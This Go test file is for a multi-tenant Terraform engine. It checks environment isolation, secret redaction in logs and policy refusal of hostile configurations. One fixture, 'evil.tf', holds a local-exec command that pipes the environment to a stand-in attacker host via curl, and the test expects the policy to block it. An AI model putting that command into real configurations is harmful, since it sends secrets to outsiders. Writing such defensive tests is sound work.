package tf

import (
	"errors"
	"net/url"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/tenantform/tenantform/tf/policy"
)

func TestBuildEnv(t *testing.T) {
	t.Setenv("DATABASE_URL", "postgres://server")
	t.Setenv("JWT_SECRET", "server-jwt")
	env := buildEnv(envSpec{
		Home:          "/w/p/.tenantform/home",
		CLIConfigFile: "/w/.tenantform.tfrc",
		PGConnStr:     "postgres://state",
		Region:        "us-west-2",
		Creds:         &Credentials{AccessKeyID: "AKIA1", SecretAccessKey: "s3cr3t", SessionToken: "tok"},
	})
	want := map[string]string{
		"PATH":                      DefaultSearchPath,
		"HOME":                      "/w/p/.tenantform/home",
		"TF_CLI_CONFIG_FILE":        "/w/.tenantform.tfrc",
		"CHECKPOINT_DISABLE":        "1",
		"PG_CONN_STR":               "postgres://state",
		"AWS_EC2_METADATA_DISABLED": "true",
		"AWS_REGION":                "us-west-2",
		"AWS_DEFAULT_REGION":        "us-west-2",
		"AWS_ACCESS_KEY_ID":         "AKIA1",
		"AWS_SECRET_ACCESS_KEY":     "s3cr3t",
		"AWS_SESSION_TOKEN":         "tok",
	}
	if diff := cmp.Diff(want, env); diff != "" {
		t.Errorf("env (-want +got):\n%s", diff)
	}

	// Without credentials nothing AWS-related but the safety switch.
	env = buildEnv(envSpec{Home: "/h", CLIConfigFile: "/c", PGConnStr: "pg"})
	for k := range env {
		if strings.HasPrefix(k, "AWS_") && k != "AWS_EC2_METADATA_DISABLED" {
			t.Errorf("env without credentials has %s", k)
		}
	}
}

// allowedEnv is everything a terraform process may see: buildEnv's keys,
// what tfexec always adds, what the engine adds per command, and what
// /bin/sh itself sets in the test's wrapper.
var allowedEnv = map[string]bool{
	"PATH": true, "HOME": true, "TF_CLI_CONFIG_FILE": true, "CHECKPOINT_DISABLE": true,
	"PG_CONN_STR": true, "AWS_EC2_METADATA_DISABLED": true, "AWS_REGION": true,
	"AWS_DEFAULT_REGION": true, "AWS_ACCESS_KEY_ID": true, "AWS_SECRET_ACCESS_KEY": true,
	"AWS_SESSION_TOKEN": true,
	// procgroup.go: the command's private temporary directory and the
	// marker of the engine's processes
	"TMPDIR": true, "TENANTFORM_TF_OWNER": true,
	// pgstate.go: the project's workspace, for every command after init
	"TF_WORKSPACE": true,
	// tfexec
	"TF_IN_AUTOMATION": true, "TF_APPEND_USER_AGENT": true, "TF_LOG": true,
	"TF_LOG_CORE": true, "TF_LOG_PATH": true, "TF_LOG_PROVIDER": true,
	// the shell running the wrapper
	"PWD": true, "SHLVL": true, "OLDPWD": true, "_": true,
}

// TestTerraformSeesOnlyItsEnvironment runs a project through a wrapper
// "terraform" that records its environment before exec'ing the real one,
// with server secrets in the test process's environment. No terraform
// process may see them; each sees the credentials of its own run.
func TestTerraformSeesOnlyItsEnvironment(t *testing.T) {
	// Not parallel: t.Setenv.
	t.Setenv("DATABASE_URL", "postgres://server:server-db-password@db/tenantform")
	t.Setenv("JWT_SECRET", "server-jwt-secret")
	t.Setenv("AWS_ACCESS_KEY_ID", "AKIASERVER")
	t.Setenv("AWS_SECRET_ACCESS_KEY", "server-aws-secret")
	t.Setenv("TF_CLI_CONFIG_FILE", "/nonexistent/server.tfrc")
	t.Setenv("TF_VAR_n", "666")

	real := terraformBinary(t)
	dumps := t.TempDir()
	wrapper := writeScript(t, t.TempDir(), "terraform",
		`env > "`+dumps+`/env.$$"`+"\n"+`exec "`+real+`" "$@"`+"\n")
	e := newTestEngine(t, "", func(c *Config) {
		c.BinaryPath = wrapper
		c.sandboxExtraRW = []string{dumps}
	})
	creds := &Credentials{AccessKeyID: "AKIATENANT", SecretAccessKey: "tenant-aws-secret", SessionToken: "tenant-token"}
	p := counterProject("carol", "env", 1)

	plan := mustPlan(t, e, p, creds)
	mustApply(t, e, p, plan, creds)
	if outs, err := e.Outputs(testContext(t), p, creds); err != nil || outs["n"] != float64(1) {
		t.Fatalf("outputs = %v, %v (TF_VAR_n of the server must not override the project's n)", outs, err)
	}

	files, _ := filepath.Glob(filepath.Join(dumps, "env.*"))
	if len(files) < 4 {
		t.Fatalf("wrapper ran %d times, want at least init, plan, show, apply", len(files))
	}
	for _, f := range files {
		env := readEnvDump(t, f)
		var extra []string
		for k := range env {
			if !allowedEnv[k] {
				extra = append(extra, k)
			}
		}
		sort.Strings(extra)
		if len(extra) > 0 {
			t.Errorf("%s: unexpected variables %v", filepath.Base(f), extra)
		}
		for _, banned := range []string{"DATABASE_URL", "JWT_SECRET"} {
			if _, ok := env[banned]; ok {
				t.Errorf("%s: terraform saw %s", filepath.Base(f), banned)
			}
		}
		checks := map[string]string{
			"AWS_ACCESS_KEY_ID":     "AKIATENANT",
			"AWS_SECRET_ACCESS_KEY": "tenant-aws-secret",
			"AWS_SESSION_TOKEN":     "tenant-token",
			"AWS_REGION":            "us-east-1",
			"TF_CLI_CONFIG_FILE":    e.cliConfigFile,
			"PG_CONN_STR":           e.cfg.PGConnStr,
			"HOME":                  filepath.Join(e.workdir(p), privateDir, "home"),
			"TF_IN_AUTOMATION":      "1",
			"PATH":                  DefaultSearchPath,
		}
		for k, want := range checks {
			if env[k] != want {
				t.Errorf("%s: %s = %q, want %q", filepath.Base(f), k, env[k], want)
			}
		}
	}
	// The connection string is never written into the workdir.
	assertNotInDir(t, e.workdir(p), e.cfg.PGConnStr)
}

func readEnvDump(t *testing.T, path string) map[string]string {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	env := map[string]string{}
	for _, line := range strings.Split(strings.TrimSpace(string(b)), "\n") {
		if k, v, ok := strings.Cut(line, "="); ok {
			env[k] = v
		}
	}
	return env
}

// assertNotInDir fails when any file under dir contains s (the terraform
// provider plugins under .terraform are not there for terraform_data).
func assertNotInDir(t *testing.T, dir, s string) {
	t.Helper()
	filepath.WalkDir(dir, func(path string, d os.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		b, err := os.ReadFile(path)
		if err == nil && strings.Contains(string(b), s) {
			t.Errorf("%s contains a secret", path)
		}
		return nil
	})
}

// TestOutputRedacted: a credential value and the state database's password
// printed by terraform (here as a plain, non-sensitive output) appear only
// as [REDACTED] in the kept logs.
func TestOutputRedacted(t *testing.T) {
	t.Parallel()
	e := newTestEngine(t, "")
	u, err := url.Parse(e.cfg.PGConnStr)
	if err != nil {
		t.Fatal(err)
	}
	pgPassword, _ := u.User.Password()
	if pgPassword == "" {
		t.Fatal("test database URL has no password to redact")
	}
	creds := &Credentials{AccessKeyID: "AKIAREDACTME", SecretAccessKey: "wJalrXUtnFEMI-tenant-secret-K7MDENG", SessionToken: "FwoGZXIvYXdzEJr-token"}
	p := Project{
		UserID: "dave", ProjectID: "leak", Region: "us-east-1",
		Files: map[string]string{"main.tf": `
variable "a" { type = string }
variable "b" { type = string }
resource "terraform_data" "leak" {
  input = "${var.a}:${var.b}"
}
output "leak_a" { value = var.a }
output "leak_b" { value = terraform_data.leak.output }
`},
		Variables: map[string]any{"a": creds.SecretAccessKey, "b": "pw=" + pgPassword},
	}
	plan := mustPlan(t, e, p, creds)
	res := mustApply(t, e, p, plan, creds)
	outs, err := e.Outputs(testContext(t), p, creds)
	if err != nil {
		t.Fatal(err)
	}
	for name, text := range map[string]string{"plan log": plan.Log, "apply log": res.Log, "outputs": toJSON(t, outs), "plan summary": toJSON(t, plan.Summary)} {
		for _, secret := range []string{creds.SecretAccessKey, pgPassword} {
			if strings.Contains(text, secret) {
				t.Errorf("%s contains a secret:\n%s", name, text)
			}
		}
	}
	if !strings.Contains(res.Log, `leak_a = "`+Redacted+`"`) {
		t.Errorf("apply log should show the output redacted:\n%s", res.Log)
	}
	if !strings.Contains(res.Log, "pw="+Redacted) {
		t.Errorf("apply log should show the password redacted:\n%s", res.Log)
	}
}

// TestPolicyViolationRunsNothing: a configuration the policy refuses yields
// *policy.Error from every operation before a workdir exists or terraform
// is started.
func TestPolicyViolationRunsNothing(t *testing.T) {
	t.Parallel()
	calls := filepath.Join(t.TempDir(), "calls")
	wrapper := writeScript(t, t.TempDir(), "terraform", `echo "$@" >> "`+calls+`"`+"\nexit 1\n")
	e := newTestEngine(t, "postgres://unused:secret@127.0.0.1:1/none", func(c *Config) { c.BinaryPath = wrapper })
	p := counterProject("eve", "evil", 1)
	p.Files["evil.tf"] = `resource "terraform_data" "x" {
  provisioner "local-exec" {
    command = "env | curl -d @- https://attacker.example"
  }
}
`
	ctx := testContext(t)
	check := func(op string, err error) {
		t.Helper()
		var pe *policy.Error
		if !errors.As(err, &pe) || len(pe.Violations) == 0 {
			t.Fatalf("%s: err = %v, want *policy.Error", op, err)
		}
		if v := pe.Violations[0]; v.File != "evil.tf" || v.Line != 2 {
			t.Errorf("%s: first violation %v, want evil.tf:2", op, v)
		}
	}
	_, err := e.Plan(ctx, p, nil)
	check("plan", err)
	_, err = e.Apply(ctx, p, &Plan{Bytes: []byte("PK not a real plan")}, nil)
	check("apply", err)
	_, err = e.Destroy(ctx, p, nil)
	check("destroy", err)
	_, err = e.Outputs(ctx, p, nil)
	check("outputs", err)
	_, err = e.StateResources(ctx, p, nil)
	check("state", err)

	if _, err := os.Stat(calls); !os.IsNotExist(err) {
		b, _ := os.ReadFile(calls)
		t.Errorf("terraform was started:\n%s", b)
	}
	if _, err := os.Stat(e.workdir(p)); !os.IsNotExist(err) {
		t.Errorf("a workdir was created for a refused project (err=%v)", err)
	}
}
